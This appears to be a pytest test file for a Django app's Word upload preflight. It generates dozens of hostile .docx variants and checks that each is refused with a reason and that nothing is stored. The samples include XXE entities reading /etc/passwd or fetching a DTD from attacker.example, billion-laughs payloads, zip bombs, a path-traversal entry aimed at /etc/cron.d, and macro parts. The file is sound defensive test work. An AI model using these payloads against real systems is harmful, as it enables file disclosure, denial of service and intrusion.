"""Upload preflight: hostile files generated here are refused with a reason, and a refusal stores nothing
(no row, no file under MEDIA_ROOT, no audit event). A plain .docx passes, so the checks can fail."""

import io
import os
import struct
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from agreements.documents import services as documents
from agreements.documents.preflight import PreflightError, preflight_docx
from agreements.models import AuditEvent, DocumentTemplate, DocumentVersion
from tests.support.documents import stored_files

MB = 1024 * 1024


def plain_docx(text="Testo dell'Intesa.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


BASE = plain_docx()


def rezip(base=BASE, *, add=None, replace=None, remove=(), stored=False) -> bytes:
    """`base` with parts added, replaced or removed."""
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", method) as dst:
        for info in src.infolist():
            if info.filename in remove:
                continue
            data = (replace or {}).get(info.filename, src.read(info))
            dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def part(name, base=BASE) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        return z.read(name)


def with_doctype(xml: bytes, dtd: bytes) -> bytes:
    """Insert a DTD after the XML declaration."""
    head, _, rest = xml.partition(b"?>")
    return head + b"?>" + dtd + rest


CONTENT_TYPES = part("[Content_Types].xml")
DOCUMENT = part("word/document.xml")
DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def main_type(new: bytes, base=BASE) -> bytes:
    return rezip(base, replace={"[Content_Types].xml": CONTENT_TYPES.replace(DOCX_MAIN, new)})


def vba_rel(base=BASE) -> bytes:
    rels = part("word/_rels/document.xml.rels", base).replace(
        b"</Relationships>",
        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/></Relationships>',
    )
    return rezip(base, replace={"word/_rels/document.xml.rels": rels}, add={"word/vbaProject.bin": os.urandom(512)})


def patch_sizes(data: bytes, name: str, *, size=None, flag=None) -> bytes:
    """Rewrite the uncompressed size or the flag bits recorded for `name` in both zip headers."""
    raw = bytearray(data)
    encoded = name.encode()
    # Local file header: signature, version, flags(6), method, time, date, crc(14), csize(18), usize(22).
    pos = raw.find(b"PK\x03\x04")
    while pos != -1:
        name_len = struct.unpack_from("<H", raw, pos + 26)[0]
        if raw[pos + 30: pos + 30 + name_len] == encoded:
            if size is not None:
                struct.pack_into("<I", raw, pos + 22, size)
            if flag is not None:
                struct.pack_into("<H", raw, pos + 6, struct.unpack_from("<H", raw, pos + 6)[0] | flag)
        pos = raw.find(b"PK\x03\x04", pos + 4)
    # Central directory: flags(8), usize(24), name length(28), name at 46.
    pos = raw.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", raw, pos + 28)[0]
        if raw[pos + 46: pos + 46 + name_len] == encoded:
            if size is not None:
                struct.pack_into("<I", raw, pos + 24, size)
            if flag is not None:
                struct.pack_into("<H", raw, pos + 8, struct.unpack_from("<H", raw, pos + 8)[0] | flag)
        pos = raw.find(b"PK\x01\x02", pos + 4)
    return bytes(raw)


def corrupt_deflate(data: bytes, name: str) -> bytes:
    """Flip bytes in the compressed data of `name`."""
    raw = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo(name)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 10, start + min(info.compress_size, 60)):
        raw[i] ^= 0x5A
    return bytes(raw)


def zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return out.getvalue()


def moderately_compressible(size: int) -> bytes:
    """About 30:1 under deflate: a random byte every 32, runs otherwise."""
    block = bytearray(b"a" * size)
    rnd = os.urandom(size // 32 + 1)
    for i in range(0, size, 32):
        block[i] = rnd[i // 32]
    return bytes(block)


def many_entries_bomb() -> bytes:
    return rezip(add={f"word/media/p{i}.xml": b"<a/>" for i in range(1500)})


def total_size_bomb() -> bytes:
    return rezip(add={f"word/media/chunk{i}.bin": moderately_compressible(2 * MB) for i in range(30)})


def utf16_doctype() -> bytes:
    xml = DOCUMENT.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    head, _, rest = xml.partition("?>")
    return rezip(replace={"word/document.xml": (head + '?><!DOCTYPE w:document [<!ENTITY e "x">]>' + rest)
                          .encode("utf-16")})


def duplicate_names() -> bytes:
    out = io.BytesIO(BASE)
    with pytest.warns(UserWarning), zipfile.ZipFile(out, "a") as z:
        z.writestr("word/document.xml", DOCUMENT)
    return out.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')
XXE = b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
SVG = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
       b'<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>')

# (id, builder, a word the refusal message must contain)
HOSTILE_UPLOADS = [
    # macros
    ("vba-in-word-folder", lambda: rezip(add={"word/vbaProject.bin": os.urandom(2048)}), "macro"),
    ("vba-at-root", lambda: rezip(add={"vbaProject.bin": os.urandom(2048)}), "macro"),
    ("vba-upper-case-name", lambda: rezip(add={"word/VBAPROJECT.BIN": os.urandom(2048)}), "macro"),
    ("vba-data-xml", lambda: rezip(add={"word/vbaData.xml": b"<wne:vbaSuppData xmlns:wne='x'/>"}), "macro"),
    ("vba-project-with-relationship", vba_rel, "macro"),
    ("vba-content-type-renamed-part", lambda: rezip(
        replace={"[Content_Types].xml": CONTENT_TYPES.replace(
            b"</Types>", b'<Override PartName="/word/m.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
                         b"</Types>")},
        add={"word/m.dat": os.urandom(1024)}), "macro"),
    ("docm-main-content-type", lambda: main_type(b"application/vnd.ms-word.document.macroEnabled.main+xml"),
     "macro"),
    ("docm-with-vba", lambda: main_type(b"application/vnd.ms-word.document.macroEnabled.main+xml", vba_rel()),
     "macro"),
    ("dotm-macro-template", lambda: main_type(b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
     "macro"),
    ("dotx-template", lambda: main_type(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"), ".dotx"),
    # zip bombs
    ("ratio-bomb-media", lambda: rezip(add={"word/media/image1.png": b"\0" * (20 * MB)}), "zip bomb"),
    ("ratio-bomb-xml-part", lambda: rezip(add={"word/bomb.xml": b"<a>" + b" " * (8 * MB) + b"</a>"}), "zip bomb"),
    ("ratio-bomb-stored-as-document", lambda: rezip(replace={"word/document.xml": DOCUMENT.replace(
        b"</w:body>", b"</w:body>" + b"\n" * (6 * MB))}), "zip bomb"),
    ("total-unpacked-size", total_size_bomb, "decompresso"),
    ("declared-size-4gb", lambda: patch_sizes(BASE, "word/document.xml", size=0xFFFFFFF0), "zip bomb"),
    ("too-many-entries", many_entries_bomb, "troppe parti"),
    ("lying-small-declared-size", lambda: patch_sizes(BASE, "word/document.xml", size=100), "danneggiato"),
    # DTD and entities in any part
    ("doctype-in-document", lambda: rezip(replace={"word/document.xml": with_doctype(
        DOCUMENT, b'<!DOCTYPE w:document [<!ENTITY e "x">]>')}), "DTD"),
    ("billion-laughs-in-document", lambda: rezip(replace={"word/document.xml": with_doctype(DOCUMENT, LAUGHS)}),
     "DTD"),
    ("xxe-in-styles", lambda: rezip(replace={"word/styles.xml": with_doctype(part("word/styles.xml"), XXE)}), "DTD"),
    ("dtd-in-content-types", lambda: rezip(replace={"[Content_Types].xml": with_doctype(CONTENT_TYPES, XXE)}),
     "DTD"),
    ("dtd-in-package-rels", lambda: rezip(replace={"_rels/.rels": with_doctype(part("_rels/.rels"), XXE)}), "DTD"),
    ("dtd-in-document-rels", lambda: rezip(replace={"word/_rels/document.xml.rels": with_doctype(
        part("word/_rels/document.xml.rels"), XXE)}), "DTD"),
    ("dtd-in-core-properties", lambda: rezip(replace={"docProps/core.xml": with_doctype(
        part("docProps/core.xml"), LAUGHS)}), "DTD"),
    ("dtd-in-custom-xml", lambda: rezip(add={"customXml/item9.xml": b'<?xml version="1.0"?>' + XXE + b"<x>&xxe;</x>"}),
     "DTD"),
    ("entity-in-svg-image", lambda: rezip(add={"word/media/image1.svg": SVG}), "DTD"),
    ("utf16-encoded-doctype", utf16_doctype, "DTD"),
    ("lower-case-doctype", lambda: rezip(replace={"word/settings.xml": with_doctype(
        part("word/settings.xml"), b'<!doctype w:settings [<!entity e "x">]>')}), "DTD"),
    ("parameter-entity-remote-dtd", lambda: rezip(replace={"word/fontTable.xml": with_doctype(
        part("word/fontTable.xml"),
        b'<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>')}), "DTD"),
    ("public-external-dtd", lambda: rezip(replace={"word/webSettings.xml": with_doctype(
        part("word/webSettings.xml"),
        b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">')}), "DTD"),
    ("entity-in-non-xml-name", lambda: rezip(add={"word/glossary/data.dat": b"xx<!ENTITY a 'b'>xx"}), "DTD"),
    # not a .docx, whatever the name says
    ("pdf-named-docx", lambda: b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", "non è un documento Word"),
    ("png-named-docx", lambda: b"\x89PNG\r\n\x1a\n" + os.urandom(400), "non è un documento Word"),
    ("html-named-docx", lambda: b"<html><body><script>alert(1)</script></body></html>", "non è un documento Word"),
    ("rtf-named-docx", lambda: b"{\\rtf1\\ansi{\\fonttbl\\f0\\fswiss Helvetica;}\\f0 Ciao}", "non è un documento Word"),
    ("text-named-docx", lambda: b"Testo semplice, non Word.", "non è un documento Word"),
    ("exe-named-docx", lambda: b"MZ\x90\x00\x03" + os.urandom(600), "non è un documento Word"),
    ("odt-named-docx", lambda: zip_of({"mimetype": b"application/vnd.oasis.opendocument.text",
                                       "content.xml": b'<office:document-content xmlns:office="urn:oasis:names:tc:'
                                                      b'opendocument:xmlns:office:1.0"/>'}), "OpenDocument"),
    ("xlsx-named-docx", lambda: main_type(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), "non è un documento Word"),
    ("pptx-named-docx", lambda: main_type(
        b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
     "non è un documento Word"),
    ("zip-without-content-types", lambda: zip_of({"a.txt": b"ciao"}), "non è un documento Word"),
    ("docx-without-document-part", lambda: rezip(remove=("word/document.xml",)), "word/document.xml"),
    ("empty-file", lambda: b"", "vuoto"),
    # corrupt
    ("truncated-docx", lambda: BASE[: len(BASE) // 2], "danneggiato"),
    ("zip-header-then-garbage", lambda: b"PK\x03\x04" + os.urandom(3000), "danneggiato"),
    ("broken-deflate-stream", lambda: corrupt_deflate(rezip(replace={"word/document.xml": DOCUMENT * 3}),
                                                      "word/document.xml"), "danneggiato"),
    ("malformed-document-xml", lambda: rezip(replace={"word/document.xml": b"<w:document><w:body><unclosed>"}),
     "non è XML valido"),
    ("zip-encrypted-entry", lambda: patch_sizes(BASE, "word/document.xml", flag=0x1), "password"),
    ("path-traversal-entry", lambda: rezip(add={"../../etc/cron.d/evil": b"* * * * * root id"}), "non valido"),
    ("duplicate-entry-names", duplicate_names, "ripetuta"),
    # encrypted or legacy binary (OLE compound file)
    ("password-protected-docx", lambda: OLE + os.urandom(500) + "EncryptedPackage".encode("utf-16-le")
     + os.urandom(500), "password"),
    ("legacy-doc", lambda: OLE + os.urandom(4000), ".doc"),
    ("ole-header-only", lambda: OLE, ".doc"),
    # too big
    ("oversize-valid-docx", lambda: rezip(add={"word/media/photo.jpg": os.urandom(10 * MB + 1)}, stored=True),
     "troppo grande"),
    ("oversize-garbage", lambda: os.urandom(11 * MB), "troppo grande"),
]


def test_there_are_at_least_50_hostile_kinds():
    assert len(HOSTILE_UPLOADS) >= 50
    assert len({case[0] for case in HOSTILE_UPLOADS}) == len(HOSTILE_UPLOADS)


def test_a_plain_docx_passes_the_preflight():
    preflight_docx(BASE)
    preflight_docx(rezip(add={"word/media/image1.png": os.urandom(MB)}))


@pytest.mark.parametrize("name,build,reason", HOSTILE_UPLOADS, ids=[case[0] for case in HOSTILE_UPLOADS])
def test_hostile_upload_is_refused_with_a_reason_and_nothing_is_stored(
    name, build, reason, client, drafter, nouvelle_aquitaine, media_root
):
    # given a drafter on the documents page of an agreement
    client.force_login(drafter)
    data = build()
    # when they upload the hostile file, named as a harmless .docx
    response = client.post(
        reverse("documents:upload", args=[nouvelle_aquitaine.reference]),
        {"doc_type": "testo_revisionato", "file": SimpleUploadedFile("testo.docx", data), "next": ""},
        follow=True,
    )
    # then the page says it was refused and why
    assert response.status_code == 200
    shown = [str(message) for message in response.context["messages"]]
    assert len(shown) == 1, shown
    assert reason.lower() in shown[0].lower(), shown[0]
    # and nothing was stored: no row, no file, no audit event
    assert DocumentVersion.objects.count() == 0
    assert stored_files(media_root) == []
    assert not AuditEvent.objects.filter(action="document_upload").exists()


def test_plain_docx_upload_is_stored_as_a_version(client, drafter, nouvelle_aquitaine, media_root):
    client.force_login(drafter)
    response = client.post(
        reverse("documents:upload", args=[nouvelle_aquitaine.reference]),
        {"doc_type": "testo_revisionato", "file": SimpleUploadedFile("Testo rivisto (finale).docx", BASE)},
        follow=True,
    )
    assert "File caricato" in str(list(response.context["messages"])[0])
    version = DocumentVersion.objects.get()
    assert version.source == DocumentVersion.Source.UPLOADED
    assert version.filename == "Testo_rivisto_finale.docx"
    with version.file.open("rb") as stored:
        assert stored.read() == BASE
    assert len(stored_files(media_root)) == 1


@pytest.mark.parametrize("name,build,reason", HOSTILE_UPLOADS[::4], ids=[c[0] for c in HOSTILE_UPLOADS[::4]])
def test_hostile_template_revision_is_refused_and_nothing_is_stored(
    name, build, reason, admin_user, media_root
):
    with pytest.raises(PreflightError) as refused:
        documents.template_upload(name="memorandum", upload=SimpleUploadedFile("m.docx", build()), actor=admin_user)
    assert reason.lower() in refused.value.message.lower()
    assert DocumentTemplate.objects.count() == 0
    assert stored_files(media_root) == []
